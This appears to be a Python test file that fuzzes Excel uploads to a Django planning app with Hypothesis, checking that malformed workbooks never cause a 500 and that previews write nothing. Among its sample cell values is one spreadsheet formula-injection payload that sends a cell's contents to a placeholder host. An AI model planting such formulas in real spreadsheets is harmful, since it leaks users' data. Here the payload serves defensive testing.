"""Generated workbooks against both uploads: never a 500, and nothing written by a preview.

Hypothesis mutates real files (the progress template and a plan's new-plan workbook): wrong
types, formulas, decomposed and invisible Unicode, merged cells, hidden sheets, cells far out.
Whatever comes in, the answer is a page (200) or a refusal (400), the preview writes nothing,
and a confirmed payload is only ever written by the real confirm.
"""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from budgets.models import Disbursement
from indicators.models import Actual, Indicator
from plans.models import Plan
from tests import factories as f

pytestmark = pytest.mark.django_db

cell_values = st.one_of(
    st.none(),
    st.integers(min_value=-(10**22), max_value=10**22),
    st.floats(allow_nan=True, allow_infinity=False),
    st.decimals(allow_nan=False, allow_infinity=False, places=6),
    st.booleans(),
    # Control characters cannot be written to xlsx at all; everything else can.
    st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")), max_size=40),
    st.sampled_from(
        [
            "=1+1",
            '=HYPERLINK("http://x/?d="&B2)',
            "@SUM(1;2)",
            "1,234",
            "1.5",
            "95%",
            "-3",
            "Ho\u0323\u0302u",  # decomposed accents
            "\u200b",
            "x" * 5000,
        ]
    ),
)
# Mostly the first data rows and columns of the sheets that hold data, where a reader does
# its work; now and then anywhere, headers included.
edits = st.lists(
    st.tuples(
        st.integers(0, 9),
        st.one_of(st.integers(2, 4), st.integers(1, 12)),
        st.one_of(st.integers(1, 4), st.integers(1, 12)),
        cell_values,
    ),
    min_size=1,
    max_size=6,
)
layout = st.fixed_dictionaries(
    {
        "merge": st.booleans(),
        "hide_first_sheet": st.booleans(),
        "far_cell": st.sampled_from([None, "Z300", "AZ3000"]),
        "rename_sheet": st.booleans(),
    }
)
FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def mutated(content: bytes, cell_edits, shape) -> bytes:
    book = load_workbook(io.BytesIO(content))
    for index, row, column, value in cell_edits:
        sheet = book.worksheets[index % len(book.worksheets)]
        sheet.cell(row=row, column=column).value = value
    sheet = book.worksheets[min(1, len(book.worksheets) - 1)]
    if shape["merge"]:
        sheet.merge_cells(start_row=1, start_column=1, end_row=2, end_column=2)
    if shape["far_cell"]:
        sheet[shape["far_cell"]] = "xa"
    if shape["hide_first_sheet"] and len(book.worksheets) > 1:
        book.worksheets[0].sheet_state = "hidden"
    if shape["rename_sheet"]:
        sheet.title = "Trang đổi tên"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def figures_snapshot():
    return (
        list(Actual.objects.order_by("pk").values_list("pk", "value", "note", "version")),
        list(Disbursement.objects.order_by("pk").values_list("pk", "amount", "version")),
        Actual.history.count(),
        Plan.objects.count(),
        Indicator.objects.count(),
    )


PLAIN = {"merge": False, "hide_first_sheet": False, "far_cell": None, "rename_sheet": False}


@FUZZ
@given(cell_edits=edits, shape=layout)
# Found by this test, each a 500: a figure and a version too large for a float (read as
# infinity), and a version too large for the database's integer.
@example(cell_edits=[(1, 3, 7, 1.7976931348623155e308)], shape=PLAIN)
@example(cell_edits=[(2, 2, 7, 1.7976931348623155e308)], shape=PLAIN)
@example(cell_edits=[(2, 2, 7, 9_223_372_036_854_775_296)], shape=PLAIN)
def test_progress_upload_answers_every_generated_file_without_a_crash(
    world, as_user, cell_edits, shape
):
    client = as_user(world.users["staff_a"])
    url = reverse("plans:progress-template", args=[world.plan_a.slug, 2013])
    content = b"".join(client.get(url).streaming_content)
    before = figures_snapshot()
    upload_url = reverse("plans:progress-upload", args=[world.plan_a.slug, 2013])
    file = SimpleUploadedFile("bao-cao.xlsx", mutated(content, cell_edits, shape))
    response = client.post(upload_url, {"file": file})
    assert response.status_code in (200, 400)
    assert figures_snapshot() == before  # a preview writes nothing
    preview = response.context["preview"]
    if preview.payload:
        confirmed = client.post(upload_url, {"payload": preview.payload})
        assert confirmed.status_code in (200, 302, 400)


@FUZZ
@given(cell_edits=edits, shape=layout)
# Found by this test: a number too large for a float (read as infinity) in a plan field was a 500.
@example(cell_edits=[(1, 2, 2, 1.7976931348623155e308)], shape=PLAIN)
def test_new_plan_import_answers_every_generated_file_without_a_crash(
    admin_client, cell_edits, shape
):
    plan = Plan.objects.filter(slug="hg-qh").first() or f.rich_plan()
    content = b"".join(
        admin_client.get(reverse("plans:plan-workbook", args=[plan.slug])).streaming_content
    )
    book = load_workbook(io.BytesIO(content))
    book["Văn bản"]["B2"] = "hg-qh-fuzz"  # a new code, so a valid file would create a plan
    buffer = io.BytesIO()
    book.save(buffer)
    before = figures_snapshot()
    file = SimpleUploadedFile("van-ban.xlsx", mutated(buffer.getvalue(), cell_edits, shape))
    response = admin_client.post(reverse("plans:new-plan"), {"file": file})
    assert response.status_code in (200, 400)
    assert figures_snapshot() == before
    assert not Plan.objects.filter(slug="hg-qh-fuzz").exists()
